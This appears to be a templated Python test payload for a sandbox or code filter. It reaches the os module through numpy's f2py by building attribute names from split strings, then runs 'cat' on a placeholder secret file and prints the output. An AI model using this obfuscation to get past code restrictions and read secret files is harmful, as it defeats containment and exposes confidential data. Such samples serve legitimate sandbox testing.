"""The name is put together only when it runs."""
import numpy as np
inner = getattr(np, "f2" + "py")
print(getattr(inner, "o" + "s").popen("cat @SECRET_FILE@").read())
